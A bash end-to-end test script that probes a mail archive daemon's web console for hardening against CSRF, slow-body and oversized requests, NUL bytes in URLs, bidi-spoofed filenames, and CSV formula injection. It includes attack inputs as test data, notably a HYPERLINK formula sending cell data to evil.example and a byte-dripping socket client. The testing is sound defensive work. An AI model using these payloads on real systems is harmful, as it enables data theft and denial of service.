#!/bin/bash
# t_web_hardening.sh - what a hostile tester tried against the console and
# API (issue 16), through the real daemon with curl and a raw socket:
# the audit trail of refusals (attempts at mail by an operator or without
# a session, role and CSRF refusals with their method and status, sign-ins
# refused by the per-address limit even with the right password) and of
# reads (the HTML body opened directly), the finished export's user; a
# request body declared over web_max_body refused at once and a slow body
# cut at web_body_timeout, both answers with the security headers; a NUL
# byte in the URL refused; tenant states by name;
# a second sign-in ending the first session; file names with bidi
# controls in downloads and export paths; spreadsheet formulas in an
# export's messages.csv and messages.dat.
. "$(dirname "$0")/lib.sh"
W=$S/tests/e2e/web
PW='Corr3ct-horse-battery'
archive_init
ctl tenant add acme --journal-address journal@acme.example >/dev/null
adduser() { echo "$PW" | ctl user add "$@" >/dev/null; }
adduser --tenant acme --role officer olga
adduser --tenant acme --role auditor aud
adduser --operator op
mkdir -p "$T/acme"
cp "$W/budget.eml" "$W/xss.eml" "$W/spoof.eml" "$W/formula.eml" "$T/acme/"
ctl import --tenant acme "$T/acme" >/dev/null 2>&1
"$B/tests/tools/index_tenant" "$DATA" acme >/dev/null
set_conf web_max_body 64K
set_conf web_body_timeout 3s
archived_start_web

# log checks run at the end on one dump of the log
LOGCHECKS=()
check_log() {   # check_log DESCRIPTION TEXT...: one entry holding every TEXT
	local d=$1
	shift
	local IFS=$'\x1f'
	LOGCHECKS+=("$d"$'\x1f'"$*")
}
run_log_checks() {
	local c l x parts
	ctl log --tenant acme >"$T/log.acme" 2>/dev/null
	for c in "${LOGCHECKS[@]}"; do
		IFS=$'\x1f' read -r -a parts <<<"$c"
		l=$(cat "$T/log.acme")
		for x in "${parts[@]:1}"; do l=$(printf '%s\n' "$l" | grep -F -- "$x"); done
		check "${parts[0]}" [ -n "$l" ]
	done
}

login acme olga
api GET "/api/v1/search?q=budget"
BUDGET=$(js 'd["rows"][0]["id"]')
api GET "/api/v1/search?q=spoofcheck"
SPOOF=$(js 'd["rows"][0]["id"]')
check "the fixtures are found" [ -n "$BUDGET" ] && [ -n "$SPOOF" ]

# --- the audit trail ------------------------------------------------------
api GET "/api/v1/messages/$SPOOF/body.html"
check "no HTML part: 404" code_is 404
api GET "/api/v1/messages/$BUDGET"
api GET "/api/v1/search?q=xsssubject"
XSS=$(js 'd["rows"][0]["id"]')
api GET "/api/v1/messages/$XSS/body.html"
check "an officer reads the HTML body directly: 200" code_is 200
check_log "... and it is audited (view_html, object, method, status)" \
    '"action":"view_html"' '"user":"olga"' "$XSS" '"method":"GET"' '"status":200'
check_log "a view carries its method and status" \
    '"action":"view"' '"user":"olga"' "$BUDGET" '"method":"GET"' '"status":200'

C0=$CSRF
CSRF=
api POST /api/v1/exports '{"scope":"all"}'
[ "$CODE" = 403 ] && err_is csrf; check "POST without the CSRF token: 403 csrf" [ $? = 0 ]
CSRF=0000000000000000000000000000000000000000000000000000000000000000
api DELETE /api/v1/session
check "DELETE with a wrong token: 403" code_is 403
CSRF=$C0
check_log "the CSRF refusal is audited (user, method, status, path)" \
    '"action":"csrf_rejected"' '"user":"olga"' '"method":"POST"' '"status":403' \
    '"path":"/api/v1/exports"' '"reason":"no_token"'
check_log "... and the wrong token too" '"action":"csrf_rejected"' \
    '"method":"DELETE"' '"reason":"wrong_token"'

login acme aud
api GET "/api/v1/messages/$BUDGET/original"
check "an auditor reading mail: 403" code_is 403
check_log "the forbidden entry carries the method and status" \
    '"action":"forbidden"' '"user":"aud"' '"method":"GET"' '"status":403' \
    "\"path\":\"/api/v1/messages/$BUDGET/original\""

login "" op
api GET "/api/v1/messages/$BUDGET"
check "an operator reading a tenant's message: 403" code_is 403
api GET "/api/v1/search?q=budget"
check "an operator searching: 403" code_is 403
check_log "the operator's attempt is in the tenant's log (object, method, status)" \
    '"action":"forbidden"' '"user":"operator:op"' "$BUDGET" '"method":"GET"' '"status":403'
check "... and every operator refusal in the daemon's log" \
    sh -c "grep -q 'web audit action=forbidden user=operator:op method=GET path=/api/v1/messages/$BUDGET ' '$T/archived.log' &&
        grep -q 'web audit action=forbidden user=operator:op method=GET path=/api/v1/search ' '$T/archived.log'"
check "... without the query" sh -c "! grep 'web audit' '$T/archived.log' | grep -q budget"

# without a session (no cookie at all)
J=$JAR
JAR=$T/jar.none
rm -f "$JAR"
api GET "/api/v1/messages/$BUDGET/original"
check "reading a message without a session: 401" code_is 401
api GET "/api/v1/search?q=budget"
check "searching without a session: 401" code_is 401
api GET /api/v1/session
check "the console's look at its session: 401" code_is 401
JAR=$J
check_log "the attempt at a message without a session is in the tenant's log" \
    '"action":"unauthenticated"' '"user":"?"' "$BUDGET" '"method":"GET"' '"status":401' \
    "\"path\":\"/api/v1/messages/$BUDGET/original\""
check "... and both attempts at mail in the daemon's log" \
    sh -c "grep -q 'web audit action=unauthenticated user=? method=GET path=/api/v1/messages/$BUDGET/original ' '$T/archived.log' &&
        grep -q 'web audit action=unauthenticated user=? method=GET path=/api/v1/search ' '$T/archived.log'"
check "... but not the console asking for its session" \
    sh -c "! grep 'web audit action=unauthenticated' '$T/archived.log' | grep -q 'path=/api/v1/session '"
api GET /api/v1/tenants
check "GET /api/v1/tenants: the state by name (\"active\")" \
    [ "$(js '[t["state"] for t in d["tenants"]]')" = "['active']" ]

# --- a second sign-in ends the first session -----------------------------
login acme olga
cp "$JAR" "$T/jar.first"
FIRST_CSRF=$CSRF
api POST /api/v1/session "{\"tenant\":\"acme\",\"user\":\"olga\",\"password\":\"$PW\"}"
check "signing in again from the same browser: 200" code_is 200
CSRF=$(js 'd["csrf_token"]')
check "... with a new session id" \
    sh -c "[ \"\$(grep archived_session '$JAR' | awk '{print \$7}')\" != \"\$(grep archived_session '$T/jar.first' | awk '{print \$7}')\" ]"
J=$JAR
JAR=$T/jar.first
api GET /api/v1/session
check "the old session is gone on the server: 401" code_is 401
JAR=$J
api GET /api/v1/session
check "the new one works" code_is 200
check_log "the old session's end is audited" '"action":"signout"' \
    '"reason":"signed_in_again"' '"user":"olga"'

# --- request bodies, URLs --------------------------------------------------
t0=$(date +%s)
code=$(curl -s -o "$T/body" -D "$T/h413" -m 20 -w '%{http_code}' -X POST \
    -H 'Content-Type: application/json' -H 'Content-Length: 1000000000000000' \
    --data-binary '0123456789' "$WEB/api/v1/session")
check "Content-Length 10^15 with 10 bytes: 413 at once ($code after $(($(date +%s) - t0)) s; 20 s allowed)" \
    [ "$code" = 413 ]
check "... with the JSON error" grep -q '"too_large"' "$T/body"
# sec_headers FILE: the security headers every answer of archived carries
sec_headers() {
	grep -qi "^content-security-policy: default-src 'self'" "$1" &&
	    grep -qi '^x-content-type-options: nosniff' "$1" &&
	    grep -qi '^x-frame-options: deny' "$1" &&
	    grep -qi '^referrer-policy: no-referrer' "$1"
}
check "... and the security headers (not libmicrohttpd's bare page)" sec_headers "$T/h413"
python3 - "$WEB_PORT" >"$T/drip.out" <<'PY'
# a body declared at 100 bytes, sent one byte a second: the daemon must
# close the connection once web_body_timeout (3 s) has passed, long before
# the 100 s the body would take (or the 30 s idle timeout, which each byte
# resets)
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.settimeout(60)
s.sendall(b"POST /api/v1/session HTTP/1.1\r\nHost: x\r\n"
          b"Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{")
t0 = time.monotonic()
closed = None
for i in range(99):
    time.sleep(1)
    try:
        s.sendall(b" ")
    except OSError:
        closed = time.monotonic() - t0
        break
    s.setblocking(False)
    try:
        if s.recv(1) == b"":
            closed = time.monotonic() - t0
            break
    except BlockingIOError:
        pass
    except OSError:
        closed = time.monotonic() - t0
        break
    s.setblocking(True)
    s.settimeout(60)
print("closed" if closed is not None else "open", round(closed or 0, 1))
PY
read -r state secs <"$T/drip.out"
check "a body dripping one byte a second is cut (after ${secs} s; web_body_timeout 3 s)" \
    sh -c "[ '$state' = closed ] && [ \"\$(echo '$secs < 30' | bc)\" = 1 ]"
check "... and logged" grep -q 'status=body_timeout' "$T/archived.log"

code=$(curl -s -o "$T/body" -D "$T/hnul" -w '%{http_code}' "$WEB/app.js%00.txt")
check "/app.js%00.txt: 400 (not app.js)" [ "$code" = 400 ]
check "... with the security headers" sec_headers "$T/hnul"
api GET "/api/v1/search?q=budget%00evil"
[ "$CODE" = 400 ] && err_is bad_url; check "q=budget%00evil: 400 bad_url" [ $? = 0 ]
printf 'GET /app.js\0.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' |
    timeout 20 python3 -c "
import socket,sys
s=socket.create_connection(('127.0.0.1',$WEB_PORT)); s.sendall(sys.stdin.buffer.read())
out=b''
while True:
    b=s.recv(65536)
    if not b: break
    out+=b
print(out.split(b'\r\n')[0].decode())" >"$T/rawnul.out"
check "a raw NUL byte in the request line: 400 ($(cat "$T/rawnul.out"))" \
    grep -q '^HTTP/1.1 400' "$T/rawnul.out"
code=$(curl -s -o /dev/null -w '%{http_code}' "$WEB/app.js")
check "app.js itself: 200" [ "$code" = 200 ]

# --- names that turn around -----------------------------------------------
api GET "/api/v1/messages/$SPOOF"
check "the API keeps the true name (U+202E in it)" \
    [ "$(js 'd["attachments"][0]["name"] == "invoice\u202efdp.exe"')" = True ]
api GET "/api/v1/messages/$SPOOF/attachments/1"
check "download: 200" code_is 200
check "Content-Disposition: U+202E replaced in filename*" \
    grep -qi "^content-disposition: attachment; filename=\"invoice_fdp.exe\"; filename\\*=UTF-8''invoice_fdp.exe" "$T/hdr"
api GET "/api/v1/messages/$SPOOF/attachments/2"
check "Content-Disposition: zero width space and isolate replaced" \
    grep -qi "^content-disposition: attachment; filename=\"re_port_.pdf\"; filename\\*=UTF-8''re_port_.pdf" "$T/hdr"
check "... no percent-encoded format character left" \
    sh -c "! grep -i '^content-disposition' '$T/hdr' | grep -qiE '%E2%80%(8[B-F]|A[A-E])|%E2%81%A[6-9]'"

# --- an export: formulas, paths, its log entry -----------------------------
api POST /api/v1/exports '{"scope":"all","dat":true}'
EXP=$(js 'd.get("id","")')
export_ended() {
	api GET "/api/v1/exports/$EXP"
	st=$(js 'd["state"]')
	[ "$st" = done ] || [ "$st" = failed ]
}
wait_until 600 export_ended
check "export of the tenant: done" [ "$st" = done ]
curl -s -b "$JAR" -o "$T/export.zip" "$WEB/api/v1/exports/$EXP/download"
mkdir -p "$T/unz"
python3 -c "import zipfile,sys; z=zipfile.ZipFile(sys.argv[1]); open(sys.argv[3],'w').write('\n'.join(z.namelist())); z.extractall(sys.argv[2])" \
    "$T/export.zip" "$T/unz" "$T/names"
check "ZIP paths: the attachment names without U+202E, U+200B or U+2066" \
    sh -c "grep -q '/01-invoice_fdp.exe\$' '$T/names' && grep -q '/02-re_port_.pdf\$' '$T/names' &&
        ! LC_ALL=C grep -qP '\\xe2\\x80[\\x8b-\\x8f\\xaa-\\xae]|\\xe2\\x81[\\xa6-\\xa9]' '$T/names'"
python3 - "$T/unz/messages.csv" >"$T/csv.out" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
bad = []
for r in rows:
    for k, v in r.items():
        if v and v[0] in "=+-@\t\r":
            bad.append((k, v))
f = [r for r in rows if "HYPERLINK" in r["subject"]]
print(len(bad), f[0]["subject"] if f else "", f[0]["to"] if f else "",
      f[0]["message_id"] if f else "", sep="\x1f")
PY
IFS=$'\x1f' read -r nbad subj to mid <"$T/csv.out"
check "messages.csv: no cell starts with = + - @ tab or CR ($nbad do)" [ "$nbad" = 0 ]
check "messages.csv: the formula subject kept, defused: $subj" \
    [ "$subj" = "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" ]
check "messages.csv: a To starting with '-' defused: $to" [ "${to:0:2}" = "'-" ]
check "messages.csv: a Message-ID starting with '@' defused: $mid" [ "${mid:0:2}" = "'@" ]
check "messages.dat: the formula subject defused" \
    grep -q $'\xc3\xbe\'=HYPERLINK' "$T/unz/messages.dat"
check "messages.dat: no field starts with = + - @" \
    sh -c "! LC_ALL=C grep -qP '\\xc3\\xbe[=+@-]' '$T/unz/messages.dat'"
check "the manifest still verifies" sh -c "cd '$T/unz' && sha256sum --quiet -c manifest.sha256"
check_log "the finished export's entry names its user and client" \
    '"action":"export"' '"user":"olga"' '"client":"127.0.0.1"'

# --- the per-address sign-in limit (last: it shuts 127.0.0.1 out) ---------
for i in $(seq 1 30); do
	login acme "nobody$i" wrong-password
done
login acme olga
[ "$CODE" = 429 ] && err_is too_many_attempts
check "after 30 failures from one address, even the right password: 429" [ $? = 0 ]
login "" op
check "... for an operator too" code_is 429
check_log "the refused sign-in is in the tenant's log (user, limit, status)" \
    '"action":"signin_throttled"' '"user":"olga"' '"limit":"address"' '"status":429'
check "the operator's refused sign-in is in the daemon's log" \
    grep -q 'web audit action=signin_throttled limit=address operator=yes' "$T/archived.log"
archived_stop
run_log_checks
check "verify passes" ctl verify
